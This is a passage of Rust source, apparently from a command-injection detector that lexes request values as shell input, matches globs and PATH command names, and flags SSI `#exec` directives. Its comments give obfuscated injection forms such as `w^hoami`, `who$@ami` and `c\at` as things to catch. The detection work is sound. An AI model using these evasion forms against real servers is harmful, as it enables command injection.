            let stem = lower.strip_suffix(".exe").unwrap_or(&lower);
            if lists().windows_tools.contains(stem) || is_cmdlet(name) {
                return true;
            }
        }
        if (self.windows_builtins || self.tools) && lists().windows.contains(&*lower) {
            return true;
        }
        if self.case_insensitive {
            let stem = [".exe", ".com", ".bat", ".cmd"]
                .iter()
                .find_map(|ext| lower.strip_suffix(ext))
                .unwrap_or(&lower);
            return self.commands.contains(stem);
        }
        false
    }

    /// The alphabetically first known command matching a glob pattern.
    fn glob(&self, pattern: &str) -> Option<String> {
        let p = pattern.as_bytes();
        let (units, star) = glob_units(p);
        // `glob_match` compares the bytes before the first wildcard or class, and those after
        // the last one, byte for byte with the name's start and end: a name without them is
        // no match, told without running the matcher (a leading `*` backtracks on every name).
        let prefix = &p[..p
            .iter()
            .position(|c| matches!(c, b'?' | b'*' | b'['))
            .unwrap_or(p.len())];
        let suffix = &p[p
            .iter()
            .rposition(|c| matches!(c, b'?' | b'*' | b'[' | b']'))
            .map_or(0, |i| i + 1)..];
        let may_match = |c: &&String| {
            let c = c.as_bytes();
            c.starts_with(prefix) && c.ends_with(suffix)
        };
        if !prefix.is_empty() {
            // The names with the prefix are one run of `by_name`, in order: the first that
            // matches is the least.
            let from = self.by_name.partition_point(|c| c.as_bytes() < prefix);
            return self.by_name[from..]
                .iter()
                .take_while(|c| c.as_bytes().starts_with(prefix))
                .filter(|c| {
                    (if star {
                        c.len() >= units
                    } else {
                        c.len() == units
                    }) && may_match(c)
                })
                .find(|c| glob_match(p, c.as_bytes()))
                .cloned();
        }
        let from = self.by_length.partition_point(|c| c.len() < units);
        let longer = &self.by_length[from..];
        let to = if star {
            self.by_length.len()
        } else {
            from + longer.partition_point(|c| c.len() == units)
        };
        // "**Requests**" has neither prefix nor suffix: the names that lack one of its literal
        // bytes are told by their byte masks, far cheaper than the matcher on every name.
        let need = glob_literal_mask(p);
        let masks = self.by_length_bytes.get(from..to).unwrap_or(&[]);
        self.by_length[from..to]
            .iter()
            .zip(masks)
            .filter(|(_, &m)| m & need == need)
            .map(|(c, _)| c)
            .filter(may_match)
            .filter(|c| glob_match(p, c.as_bytes()))
            .min()
            .cloned()
    }
}

/// Kinds of bytes in the first word that [`CmdiDetector::first_word_known`] tells apart in
/// one pass: quoting characters, a brace, other characters with a meaning to the tests
/// there, and glob wildcards.
const FIRST_WORD_QUOTING: u8 = 1;
const FIRST_WORD_BRACE: u8 = 1 << 1;
const FIRST_WORD_SPECIAL: u8 = 1 << 2;
const FIRST_WORD_WILDCARD: u8 = 1 << 3;
const FIRST_WORD_DOT: u8 = 1 << 4;
/// A byte of a non-ASCII character.
const FIRST_WORD_NON_ASCII: u8 = 1 << 6;
/// Not a kind: a byte that ends the scan of [`first_word`] (ASCII white space).
const FIRST_WORD_END: u8 = 1 << 5;
/// Not a kind: the first byte of every non-ASCII white space character (U+0085, U+00A0,
/// U+1680, U+2000 to U+3000; see the test `unicode_spaces_start_with_a_marked_byte`): only at
/// these does [`first_word`] decode a character to ask `char::is_whitespace`.
const FIRST_WORD_MAY_SPACE: u8 = 1 << 7;
static FIRST_WORD_BYTES: [u8; 256] = {
    let mut t = crate::detect::prefilter::byte_classes(&[
        (b"'\"\\^", FIRST_WORD_QUOTING),
        (b"{", FIRST_WORD_BRACE),
        (b",/%", FIRST_WORD_SPECIAL),
        (b"?*[", FIRST_WORD_WILDCARD),
        (b".", FIRST_WORD_DOT),
        (b"\t\n\x0b\x0c\r ", FIRST_WORD_END),
    ]);
    let mut i = 0x80;
    while i < 256 {
        t[i] |= FIRST_WORD_NON_ASCII;
        if matches!(i, 0xc2 | 0xe1 | 0xe2 | 0xe3) {
            t[i] |= FIRST_WORD_MAY_SPACE;
        }
        i += 1;
    }
    t
};

/// How many leading bytes of a word [`any_case_hash`] reads (with the length, enough to tell
/// words apart; long words such as URLs cost no more than short ones).
const ANY_CASE_HASHED: usize = 16;

/// A hash of `b` lower-cased (ASCII), and of its first `prefix` bytes, in one pass that needs
/// no lower-cased copy: the length and the first [`ANY_CASE_HASHED`] bytes. Not a set key on
/// its own: equal hashes only send a word on to exact lookups.
fn any_case_hash(b: &[u8], prefix: Option<usize>) -> (u64, Option<u64>) {
    let mut h: u64 = 0;
    let mut at = None;
    for (i, &c) in b.iter().take(ANY_CASE_HASHED).enumerate() {
        if Some(i) == prefix {
            at = Some(h);
        }
        h = (h.rotate_left(5) ^ u64::from(c.to_ascii_lowercase()))
            .wrapping_mul(0x517c_c1b7_2722_0a95);
    }
    // A prefix at least as long as the bytes read shares them all.
    let at = at.or(prefix.map(|_| h));
    let finish = |h: u64, len: usize| (h ^ len as u64).wrapping_mul(0x9e37_79b9_7f4a_7c15);
    (
        finish(h, b.len()),
        prefix.zip(at).map(|(k, h)| finish(h, k)),
    )
}

/// Words of [`CmdiDetector::ends`]: 2^16 bits (8 KB), a few percent of them set by the names
/// of a PATH, so that most words of prose and most ids are told apart without hashing them.
const ENDS_WORDS: usize = 1024;

/// Where [`CmdiDetector::ends`] records a name: a hash of its length and its first, second and
/// last bytes, lower-cased (ASCII) as [`any_case_hash`] reads them.
fn ends_slot(b: &[u8]) -> usize {
    let byte = |i: Option<&u8>| u32::from(i.map_or(0, u8::to_ascii_lowercase));
    let key = (b.len() as u32 & 0xff)
        | byte(b.first()) << 8
        | byte(b.last()) << 16
        | byte(b.get(1)) << 24;
    // The top 16 bits of a multiplicative hash.
    (key.wrapping_mul(0x9E37_79B9) >> 16) as usize
}

/// `text.split_whitespace().next()` (or ""), found by a byte scan: the iterator costs several
/// times more on the short values most requests carry, and more again on non-ASCII text,
/// whose characters it decodes one by one. With the kinds of its bytes ([`FIRST_WORD_BYTES`]
/// ORed, without [`FIRST_WORD_END`] and [`FIRST_WORD_MAY_SPACE`]), gathered by the same scan.
fn first_word(text: &str) -> (&str, u8) {
    let b = text.as_bytes();
    // The scans below stop or step only at ASCII bytes and at the first byte of a white space
    // character: char boundaries.
    let mut start = 0;
    while let Some(&c) = b.get(start) {
        let k = FIRST_WORD_BYTES[usize::from(c)];
        if k & FIRST_WORD_END != 0 {
            start += 1;
        } else if k & FIRST_WORD_MAY_SPACE != 0 && unicode_space_len(text, start) != 0 {
            start += unicode_space_len(text, start);
        } else {
            break;
        }
    }
    let (mut end, mut kinds) = (start, 0);
    while let Some(&c) = b.get(end) {
        let k = FIRST_WORD_BYTES[usize::from(c)];
        if k & (FIRST_WORD_END | FIRST_WORD_MAY_SPACE) != 0
            && (k & FIRST_WORD_END != 0 || unicode_space_len(text, end) != 0)
        {
            break;
        }
        kinds |= k;
        end += 1;
    }
    (
        text.get(start..end).unwrap_or(""),
        kinds & !FIRST_WORD_MAY_SPACE,
    )
}

/// The length of the white space character (`char::is_whitespace`) at byte `i` of `text`, or
/// 0 (also when `i` is no char boundary).
fn unicode_space_len(text: &str, i: usize) -> usize {
    text.get(i..)
        .and_then(|r| r.chars().next())
        .filter(|c| c.is_whitespace())
        .map_or(0, char::len_utf8)
}

/// The first token is an empty word that only closes the quote the value starts in, and
/// whitespace follows it.
fn closes_then_space(toks: &[Tok], text: &str) -> bool {
    match toks.first() {
        Some(Tok::Word(w)) => {
            toks.len() > 1
                && w.starts_in_quote
                && w.text.is_empty()
                && w.substs.is_empty()
                && matches!(text.as_bytes().get(w.end), Some(b' ' | b'\t'))
        }
        _ => false,
    }
}

/// `text` with every '+' that touches `;`, `|`, `&` or a line break read as a space; None when
/// there is none.
fn plus_beside_operators(text: &str) -> Option<String> {
    let b = text.as_bytes();
    let op = |i: Option<usize>| {
        i.and_then(|i| b.get(i))
            .is_some_and(|c| matches!(c, b';' | b'|' | b'&' | b'\n'))
    };
    let spaced = |i: usize| op(i.checked_sub(1)) || op(Some(i + 1));
    // Most values with a '+' have none beside an operator: no copy for them.
    memchr::memchr_iter(b'+', b).find(|&i| spaced(i))?;
    let out: Vec<u8> = b
        .iter()
        .enumerate()
        .map(|(i, &c)| if c == b'+' && spaced(i) { b' ' } else { c })
        .collect();
    // Only ASCII bytes were replaced by ASCII bytes.
    String::from_utf8(out).ok()
}

fn keep(best: &mut Option<Scored>, s: Scored) {
    if best.as_ref().is_none_or(|b| s.score > b.score) {
        *best = Some(s);
    }
}

/// `<!--#exec cmd=...-->`: web servers with SSI enabled run the command.
fn ssi_exec(text: &str) -> bool {
    memchr::memchr(b'<', text.as_bytes()).is_some()
        && memchr::memmem::find_iter(text.as_bytes(), b"<!--#").any(|p| {
            let rest = &text.as_bytes()[p + 5..];
            let rest = &rest[..rest.len().min(4)];
            rest.eq_ignore_ascii_case(b"exec")
        })
}

// ---------------------------------------------------------------------------------------------
// PATH scan

fn scan_path(path: &OsStr, cap: usize, out: &mut HashSet<String>) {
    let mut budget = cap;
    let mut seen = HashSet::default();
    for dir in std::env::split_paths(path).take(MAX_PATH_DIRS) {
        if dir.as_os_str().is_empty() || !seen.insert(dir.clone()) {
            continue;
        }
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for entry in entries.flatten() {
            if budget == 0 {
                return;
            }
            budget -= 1;
            let file_name = entry.file_name();
            let Some(name) = file_name.to_str().and_then(command_name) else {
                continue;
            };
            if !out.contains(&name) && is_executable(&entry.path()) {
                out.insert(name);
            }
        }
    }
}

/// The command name a PATH file provides, if it is a plausible one. One-letter names (`w`, `R`,
/// `X`, `[`) are left out: they collide with initials in prose ("D&R").
fn command_name(file: &str) -> Option<String> {
    let name = if cfg!(windows) {
        let lower = file.to_ascii_lowercase();
        [".exe", ".com", ".bat", ".cmd"]
            .iter()
            .find_map(|e| lower.strip_suffix(e))?
            .to_string()
    } else {
        file.to_string()
    };
    let ok = (2..=64).contains(&name.len())
        && name.as_bytes()[0].is_ascii_alphanumeric()
        && name
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'+' | b'-'));
    ok.then_some(name)
}

#[cfg(unix)]
fn is_executable(p: &Path) -> bool {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(p).is_ok_and(|m| m.is_file() && m.permissions().mode() & 0o111 != 0)
}

#[cfg(not(unix))]
fn is_executable(p: &Path) -> bool {
    std::fs::metadata(p).is_ok_and(|m| m.is_file())
}

/// `?` and `*` wildcards; one backtrack point, so O(len(p) * len(n)) at worst on short names.
fn glob_match(p: &[u8], n: &[u8]) -> bool {
    let (mut pi, mut ni) = (0, 0);
    let mut star: Option<(usize, usize)> = None;
    while ni < n.len() {
        match p.get(pi) {
            Some(b'?') => {
                pi += 1;
                ni += 1;
            }
            Some(b'*') => {
                star = Some((pi, ni));
                pi += 1;
            }
            Some(b'[') if class_match(&p[pi..], n[ni]).is_some_and(|(m, _)| m) => {
                pi += class_match(&p[pi..], n[ni]).map_or(1, |(_, len)| len);
                ni += 1;
            }
            Some(b'[') if class_match(&p[pi..], n[ni]).is_some() => match star {
                Some((sp, sn)) => {
                    pi = sp + 1;
                    ni = sn + 1;
                    star = Some((sp, sn + 1));
                }
                None => return false,
            },
            Some(&c) if c == n[ni] => {
                pi += 1;
                ni += 1;
            }
            _ => match star {
                Some((sp, sn)) => {
                    pi = sp + 1;
                    ni = sn + 1;
                    star = Some((sp, sn + 1));
                }
                None => return false,
            },
        }
    }
    p[pi.min(p.len())..].iter().all(|&c| c == b'*')
}

/// A 64-bit summary of the bytes of `b`: bit `c % 64` for each byte `c`.
fn byte_mask(b: &[u8]) -> u64 {
    b.iter().fold(0, |m, &c| m | 1 << (c % 64))
}

/// The [`byte_mask`] of the literal units of glob pattern `p` (bytes other than `?` and `*`,
/// outside a `[...]` class; an unclosed `[` is literal, as [`glob_units`] reads them).
/// [`glob_match`] matches a literal unit only with the same byte, so every name it matches
/// holds all of them.
fn glob_literal_mask(p: &[u8]) -> u64 {
    let (mut mask, mut i) = (0u64, 0);
    while let Some(&c) = p.get(i) {
        let class = if c == b'[' {
            class_match(&p[i..], 0)
        } else {
            None
        };
        match (c, class) {
            (b'?' | b'*', _) => i += 1,
            (_, Some((_, len))) => i += len,
            _ => {
                mask |= 1 << (c % 64);
                i += 1;
            }
        }
    }
    mask
}

/// The units of glob pattern `p` other than `*` (a byte, `?`, or a `[...]` class with its
/// closing bracket; an unclosed `[` is a literal byte), and whether it has a `*`.
/// [`glob_match`] gives each such unit one byte of the name and each `*` any number of bytes:
/// a name it matches is `units` bytes long, or at least that long with a `*`.
fn glob_units(p: &[u8]) -> (usize, bool) {
    let (mut units, mut star, mut i) = (0, false, 0);
    while let Some(&c) = p.get(i) {
        match c {
            b'*' => {
                star = true;
                i += 1;
                continue;
            }
            // Whether a class closes does not depend on the byte it is matched with.
            b'[' => i += class_match(&p[i..], 0).map_or(1, |(_, len)| len),
            _ => i += 1,
        }
        units += 1;
    }
    (units, star)
}

/// A `[...]` class at the start of `p`: whether `c` is in it and the class's length; `None`
/// when there is no closing bracket (the `[` is then literal).
fn class_match(p: &[u8], c: u8) -> Option<(bool, usize)> {
    let mut i = 1;
    let negate = matches!(p.get(1), Some(b'!' | b'^'));
    if negate {
        i += 1;
    }
    let start = i;
    let mut hit = false;
    while i < p.len().min(64) {
        let x = p[i];
        if x == b']' && i > start {
            return Some((hit != negate, i + 1));
        }
        if p.get(i + 1) == Some(&b'-') && p.get(i + 2).is_some_and(|&y| y != b']') {
            hit |= (x..=p[i + 2]).contains(&c);
            i += 3;
        } else {
            hit |= x == c;
            i += 1;
        }
    }
    None
}

// ---------------------------------------------------------------------------------------------
// QuotedScan: the command words of a value with quotes, backticks, `&`, `%` and wildcards but
// no other byte of LEX_SPECIAL, without the lexer.

/// Reads a value as [`Lexer`] does when its only bytes of [`LEX_SPECIAL`] are `'`, `"`,
/// `` ` ``, `&`, `%`, `?`, `*` and `[` (no [`Present::LEX_HARD`]), and follows command
/// positions as `Analysis::list` does, to tell that no word at a command position can resolve
/// (see [`CmdiDetector::no_command_word`]).
///
/// With those bytes only, the lexer makes words (text: the bytes outside and inside quotes,
/// quotes dropped, HTML entities kept, "``" or "```" kept as text or dropped as
/// `Lexer::backtick` decides), separators (`&` and `&&` too), parentheses, comments and
/// backtick substitutions; `&>` (a redirection) is not read here. A substitution opens only
/// in a top-level word (outside quotes or in double quotes) and ends at the next backtick, so
/// substitutions never nest. Its first word and the words after its separators are at command
/// positions, as at the value's start and after a separator; `(`, comments, assignments and
/// keywords keep a position; `)` and any other word end it. Such a word resolves only as
/// [`CmdiDetector::may_resolve_but_dot_commands`] allows, as a lone `.` or a sqlite3
/// dot-command, or as `QuotedScan::after_command_word` reads `%` and wildcards.
/// Methods return None when a word may resolve, or when the reading is not decided here (a
/// word the lexer would cut at `MAX_WORD`).
struct QuotedScan<'d, 's> {
    det: &'d CmdiDetector,
    s: &'s str,
    b: &'s [u8],
    i: usize,
    /// The text of the word being read: `[0]` at the top level, `[1]` in a substitution.
    text: [[u8; MAX_WORD]; 2],
    /// Where the word last read at each level starts in the value.
    from: [usize; 2],
}

impl<'d, 's> QuotedScan<'d, 's> {
    fn new(det: &'d CmdiDetector, s: &'s str) -> Self {
        QuotedScan {
            det,
            s,
            b: s.as_bytes(),
            i: 0,
            text: [[0; MAX_WORD]; 2],
            from: [0; 2],
        }
    }

    fn at(&self, i: usize) -> Option<u8> {
        self.b.get(i).copied()
    }

    /// `Lexer::list` at the top level (`subst` false, maybe `start_quote`) or in a backtick
    /// substitution (`subst` true), to its end.
    fn list(&mut self, subst: bool, mut start_quote: Option<u8>) -> Option<()> {
        let mut at_cmd = true;
        let mut word_start = true;
        loop {
            if let Some(q) = start_quote.take() {
                let n = self.word(subst, Some(q), true)?;
                // An empty first word before a space is skipped (`closes_then_space`): the
                // value's start is then the next word's.
                let skipped = n == 0 && matches!(self.at(self.i), Some(b' ' | b'\t'));
                at_cmd = skipped || self.after_command_word(subst, n)?;
                word_start = false;
                continue;
            }
            let Some(c) = self.at(self.i) else {
                return Some(());
            };
            match c {
                b' ' | b'\t' | 0x0b | 0x0c => {
                    self.i += 1;
                    word_start = true;
                }
                b'\r' if self.at(self.i + 1) == Some(b'\n') => self.i += 1,
                b'\n' | b'\r' | b';' | b'|' => {
                    self.i += 1;
                    at_cmd = true;
                    word_start = true;
                }
                b'&' if entity_len(self.b, self.i).is_none() => {
                    match self.at(self.i + 1) {
                        Some(b'>') => return None,
                        Some(b'&') => self.i += 2,
                        _ => self.i += 1,
                    }
                    at_cmd = true;
                    word_start = true;
                }
                b'#' if word_start => {
                    while self.at(self.i).is_some_and(|c| c != b'\n' && c != b'\r') {
                        self.i += 1;
                    }
                }
                b'(' => {
                    self.i += 1;
                    word_start = true;
                }
                b')' => {
                    self.i += 1;
                    at_cmd = false;
                    word_start = true;
                }
                b'`' if subst => {
                    self.i += 1;
                    return Some(());
                }
                _ => {
                    let before = self.i;
                    let n = self.word(subst, None, at_cmd)?;
                    if at_cmd {
                        at_cmd = self.after_command_word(subst, n)?;
                    }
                    word_start = false;
                    // Every word takes a byte; never stall if one did not.
                    if self.i == before {
                        return None;
                    }
                }
            }
        }
    }

    /// Whether the command position carries on past the word just read (an assignment or a
    /// keyword); None if the word may resolve.
    fn after_command_word(&self, subst: bool, n: usize) -> Option<bool> {
        let kept = &self.text[usize::from(subst)][..n];
        // A word that kept every byte it read (no quote or backtick dropped: a word drops
        // bytes and never adds any) is that slice of the value, taken without a UTF-8 check.
        let text = match self.s.get(self.from[usize::from(subst)]..self.i) {
            Some(t) if t.len() == n => t,
            _ => std::str::from_utf8(kept).ok()?,
        };
        debug_assert_eq!(text.as_bytes(), kept);
        if is_assignment(text) || is_keyword(text) {
            return Some(true);
        }
        // `Analysis::resolve` reads `%` as a cmd.exe variable and, in a word without a slash,
        // wildcards as a glob; a slashed word resolves only as `may_resolve` allows, wildcards
        // or not (`Analysis::lookup`).
        // Wildcards first: most words have none, and then the `/` is not looked for.
        let glob = text.bytes().any(|c| matches!(c, b'?' | b'*' | b'['))
            && byte_position(text, b'/').is_none();
        if glob
            || is_cmd_variable(text)
            || self.det.may_resolve_but_dot_commands(text)
            || text == "."
            || builtins::sqlite_shell(text)
        {
            return None;
        }
        Some(false)
    }

    /// Appends `add` to the word's text; None if the word might reach the lexer's cap (the
    /// longest piece added at once is "```").
    fn push(&mut self, subst: bool, n: &mut usize, add: &[u8]) -> Option<()> {
        let end = *n + add.len();
        if end + 3 > MAX_WORD {
            return None;
        }
        self.text[usize::from(subst)][*n..end].copy_from_slice(add);
        *n = end;
        Some(())
    }

    /// `Lexer::word_by_char` on these bytes: the length of the word's text, written only when
    /// `keep` (a word at a command position; the text of any other word is never read). Runs
    /// of bytes the lexer takes as they are, copied at once, end only at ASCII bytes: a
    /// character is copied whole.
    fn word(&mut self, subst: bool, mut quote: Option<u8>, keep: bool) -> Option<usize> {
        self.from[usize::from(subst)] = self.i;
        let b = self.b;
        let mut n = 0;
        while let Some(&c) = b.get(self.i) {
            let rest = &b[self.i..];
            let run = match quote {
                Some(b'\'') => memchr::memchr(b'\'', rest),
                Some(_) => memchr::memchr2(b'"', b'`', rest),
                None => rest.iter().position(|&c| !unquoted_plain(c)),
            }
            .unwrap_or(rest.len());
            if run > 0 {
                if keep {
                    self.push(subst, &mut n, &rest[..run])?;
                }
                self.i += run;
                continue;
            }
            match (quote, c) {
                (Some(_), _) if Some(c) == quote => {
                    quote = None;
                    self.i += 1;
                }
                (None, b'\'' | b'"') => {
                    quote = Some(c);
                    self.i += 1;
                }
                // An HTML entity is part of the word; any other `&` ends it.
                (None, b'&') => match entity_len(b, self.i) {
                    Some(len) => {
                        if keep {
                            self.push(subst, &mut n, &rest[..len])?;
                        }
                        self.i += len;
                    }
                    None => break,
                },
                // A backtick, in double quotes or outside quotes.
                (_, b'`') if subst => break,
                (_, b'`') => self.backtick(&mut n, keep)?,
                // White space, a separator or a parenthesis outside quotes.
                _ => break,
            }
        }
        Some(n)
    }

    /// `Lexer::backtick` in a top-level word whose text is `n` bytes long (written if `keep`).
    fn backtick(&mut self, n: &mut usize, keep: bool) -> Option<()> {
        let alnum = |c: Option<u8>| c.is_some_and(|c| c.is_ascii_alphanumeric());
        let prev = self.i.checked_sub(1).and_then(|j| self.at(j));
        if self.at(self.i + 1) == Some(b'`') && self.at(self.i + 2) == Some(b'`') {
            while self.at(self.i) == Some(b'`') {
                self.i += 1;
            }
            return if keep {
                self.push(false, n, b"```")
            } else {
                Some(())
            };
        }
        if self.at(self.i + 1) == Some(b'`') {
            self.i += 2;
            if !keep {
                return Some(());
            }
            let closes_word = !self.text[0][..*n].windows(2).any(|p| p == b"``")
                && self
                    .at(self.i)
                    .is_none_or(|c| c.is_ascii_whitespace() || c == b';');
            if alnum(prev) && (alnum(self.at(self.i)) || closes_word) {
                return Some(());
            }
            return self.push(false, n, b"``");
        }
        self.i += 1;
        self.list(true, None)
    }
}

// ---------------------------------------------------------------------------------------------
// Lexer: shell words and operators, quotes and escapes removed, substitutions nested.

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum SepKind {
    Semi,
    DoubleSemi,
    Pipe,
    OrOr,
    Amp,
    AndAnd,
    Newline,
}

impl SepKind {
    fn as_str(self) -> &'static str {
        match self {
            SepKind::Semi => ";",
            SepKind::DoubleSemi => ";;",
            SepKind::Pipe => "|",
            SepKind::OrOr => "||",
            SepKind::Amp => "&",
            SepKind::AndAnd => "&&",
            SepKind::Newline => "newline",
        }
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum SubstKind {
    Dollar,
    Backtick,
    Process,
}

#[derive(Debug)]
struct Word<'a> {
    /// Text with quotes, escapes, `$IFS` and empty expansions removed; `$NAME` kept literally.
    /// A slice of the value while it is one run of it (most words): no copy, no allocation.
    text: Cow<'a, str>,
    /// Where a borrowed `text` ends in the value, to extend it by the run that follows.
    text_src_end: usize,
    start: usize,
    end: usize,
    quote_opens: u8,
    unquoted_chars: bool,
    /// Backslash before an ordinary character (`c\at`).
    escaped: bool,
    /// cmd.exe caret between letters (`w^hoami`).
    caret: bool,
    /// `$@`, `$*`, `$1` or an empty `$()` between letters (`who$@ami`).
    hidden_expansion: bool,
    /// Contains `$NAME`, `${...}` or `$((...))`.
    var: bool,
    /// Byte ranges of `text` that are `$NAME` or `${...}` (at most [`MAX_VAR_SPANS`]): the word
    /// as an unset variable leaves it is `text` without them. Kept as spans because `text` has
    /// lost the boundary a quote or backslash drew (`c$u\at` is `c`, `$u`, `at`, not `$uat`).
    var_spans: Vec<(usize, usize)>,
    /// Separated from the previous word by `$IFS` rather than whitespace.
    ifs: bool,
    /// Began inside a quote the value did not open (the value closes it).
    starts_in_quote: bool,
    /// Ends with a quote that opens and never closes (`id'`): the target's own closing quote.
    tail_quote: bool,
    substs: Vec<Subst<'a>>,
}

impl<'a> Word<'a> {
    fn at(start: usize) -> Self {
        Word {
            text: Cow::Borrowed(""),
            text_src_end: 0,
            start,
            end: start,
            quote_opens: 0,
            unquoted_chars: false,
            escaped: false,
            caret: false,
            hidden_expansion: false,
            var: false,
            var_spans: Vec::new(),
            ifs: false,
            starts_in_quote: false,
            tail_quote: false,
            substs: Vec::new(),
        }
    }

    /// Appends `src[from..to]`: extends a borrowed slice the run continues, copies otherwise.
    fn push_src(&mut self, src: &'a str, from: usize, to: usize) {
        let Some(run) = src.get(from..to) else {
            return;
        };
        let joined = match &self.text {
            t if t.is_empty() => Some(run),
            Cow::Borrowed(t) if self.text_src_end == from => from
                .checked_sub(t.len())
                .and_then(|start| src.get(start..to)),
            _ => None,
        };
        match (joined, &mut self.text) {
            (Some(j), _) => {
                self.text = Cow::Borrowed(j);
                self.text_src_end = to;
            }
            // The first copy leaves room for the runs that follow (an exact copy grows again
            // at once).
            (None, Cow::Borrowed(t)) => {
                let mut o = String::with_capacity((t.len() + run.len()).max(32));
                o.push_str(t);
                o.push_str(run);
                self.text = Cow::Owned(o);
            }
            (None, Cow::Owned(o)) => o.push_str(run),
        }
    }

    /// `text` as the shell expands it when its variables are unset; None without variables.
    fn without_vars(&self) -> Option<String> {
        if self.var_spans.is_empty() {
            return None;
        }
        let mut out = String::with_capacity(self.text.len());
        let mut at = 0;
        for &(s, e) in &self.var_spans {
            out.push_str(self.text.get(at..s)?);
            at = e;
        }
        out.push_str(self.text.get(at..)?);
        Some(out)
    }

    /// The only variable of the word ends it (`ar$a`).
    fn only_trailing_var(&self) -> bool {
        matches!(self.var_spans.as_slice(), [(_, e)] if *e == self.text.len())
    }

    /// Records that `text[at..]` is a variable just pushed.
    fn var_span(&mut self, at: usize) {
        if self.var_spans.len() < MAX_VAR_SPANS {
            self.var_spans.push((at, self.text.len()));
        }
    }

    fn split_by_quotes(&self) -> bool {
        self.quote_opens >= 2 || (self.quote_opens == 1 && self.unquoted_chars && !self.tail_quote)
    }
}

#[derive(Debug)]
struct Subst<'a> {
    kind: SubstKind,
    toks: Vec<Tok<'a>>,
    /// A letter or digit touches it from outside (`x`id``): shell, not a markdown code span.
    glued: bool,
}

#[derive(Debug)]
enum Tok<'a> {
    Word(Word<'a>),
    Sep {
        kind: SepKind,
        space_before: bool,
        space_after: bool,
    },
    LParen,
    RParen,
    Redirect,
    Comment,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum End {
    Eof,
    Paren,
    Backtick,
}

struct Lexer<'a> {
    s: &'a str,
    b: &'a [u8],
    i: usize,
    budget: usize,
}

impl<'a> Lexer<'a> {
    fn new(s: &'a str) -> Self {
        Lexer {
            s,
            b: s.as_bytes(),
            i: 0,
            budget: MAX_TOKENS,
        }
    }

    fn run(mut self, start_quote: Option<u8>) -> Vec<Tok<'a>> {
        self.list(End::Eof, 0, start_quote)
    }

    fn push(&mut self, toks: &mut Vec<Tok<'a>>, t: Tok<'a>) {
        if self.budget > 0 {
            self.budget -= 1;
            toks.push(t);
        }
    }

    fn at(&self, i: usize) -> Option<u8> {
        self.b.get(i).copied()
    }

    fn list(&mut self, end: End, depth: u8, mut start_quote: Option<u8>) -> Vec<Tok<'a>> {
        // Sized once for the words of most values (a token per five bytes or so, and small
        // enough for the allocator's fast path on short values); substitutions are rare.
        let mut toks = Vec::with_capacity(if depth == 0 {
            (self.b.len() / 5 + 2).min(16)
        } else {
            0
        });
        let mut word_start = true; // the next character would start a word
        let mut space = true; // whitespace (or the start) right before
        let mut ifs = false;
        while self.budget > 0 {
            let before = self.i;
            if let Some(q) = start_quote.take() {
                self.push_word(&mut toks, end, depth, Some(q), false);
                word_start = false;
                space = false;
                continue;
            }
            let Some(c) = self.at(self.i) else { break };
            let next = self.at(self.i + 1);
            match c {
                b' ' | b'\t' | 0x0b | 0x0c => {
                    self.i += 1;
                    space = true;
                    word_start = true;
                }
                b'\r' if next == Some(b'\n') => self.i += 1,
                b'\\' if next == Some(b'\n') => self.i += 2,
                b'\n' | b'\r' => {
                    self.i += 1;
                    self.sep(&mut toks, SepKind::Newline, space);
                    space = true;
                    word_start = true;
                }
                b'#' if word_start => {
                    while self.at(self.i).is_some_and(|c| c != b'\n' && c != b'\r') {
                        self.i += 1;
                    }
                    self.push(&mut toks, Tok::Comment);
                }
                b';' => {
                    let kind = if next == Some(b';') {
                        SepKind::DoubleSemi
                    } else {
                        SepKind::Semi
                    };
                    self.i += if kind == SepKind::DoubleSemi { 2 } else { 1 };
                    self.sep(&mut toks, kind, space);
                    (space, word_start) = (false, true);
                }
                b'&' if entity_len(self.b, self.i).is_none() => {
                    if next == Some(b'&') {
                        self.i += 2;
                        self.sep(&mut toks, SepKind::AndAnd, space);
                    } else if next == Some(b'>') {
                        self.i += 2;
                        if self.at(self.i) == Some(b'>') {
                            self.i += 1;
                        }
                        self.push(&mut toks, Tok::Redirect);
                    } else {
                        self.i += 1;
                        self.sep(&mut toks, SepKind::Amp, space);
                    }
                    (space, word_start) = (false, true);
                }
                b'|' => {
                    let kind = if next == Some(b'|') {
                        SepKind::OrOr
                    } else {
                        SepKind::Pipe
                    };
                    self.i += if matches!(next, Some(b'|' | b'&')) {
                        2
                    } else {
                        1
                    };
                    self.sep(&mut toks, kind, space);
                    (space, word_start) = (false, true);
                }
                b'(' => {
                    self.i += 1;
                    self.push(&mut toks, Tok::LParen);
                    (space, word_start) = (false, true);
                }
                b')' => {
                    self.i += 1;
                    if end == End::Paren {
                        return toks;
                    }
                    self.push(&mut toks, Tok::RParen);
                    (space, word_start) = (false, true);
                }
                b'`' if end == End::Backtick => {
                    self.i += 1;
                    return toks;
                }
                b'<' | b'>' if next == Some(b'(') && depth < MAX_DEPTH => {
                    let start = self.i;
                    self.i += 2;
                    let inner = self.list(End::Paren, depth + 1, None);
                    let mut w = Word::at(start);
                    w.end = self.i;
                    w.substs.push(Subst {
                        kind: SubstKind::Process,
                        glued: true,
                        toks: inner,
                    });
                    self.push(&mut toks, Tok::Word(w));
                    (space, word_start) = (false, false);
                }
                b'<' | b'>' => {
                    while matches!(self.at(self.i), Some(b'<' | b'>' | b'|')) {
                        self.i += 1;
                    }
                    if self.at(self.i) == Some(b'&') {
                        self.i += 1;
                        while self
                            .at(self.i)
                            .is_some_and(|c| c.is_ascii_digit() || c == b'-')
                        {
                            self.i += 1;
                        }
                    }
                    self.push(&mut toks, Tok::Redirect);
                    (space, word_start) = (false, true);
                }
                b'0'..=b'9' if word_start && matches!(next, Some(b'<' | b'>')) => self.i += 1,
                b'$' if ifs_len(self.b, self.i).is_some() => {
                    self.i += ifs_len(self.b, self.i).unwrap_or(1);
                    (space, word_start, ifs) = (true, true, true);
                }
                _ => {
                    self.push_word(&mut toks, end, depth, None, ifs);
                    (space, word_start, ifs) = (false, false, false);
                }
            }
            if self.i == before {
                // Never stall on an unexpected byte.
                self.i += self
                    .s
                    .get(self.i..)
                    .and_then(|r| r.chars().next())
                    .map_or(1, char::len_utf8);
            }
        }
        toks
    }

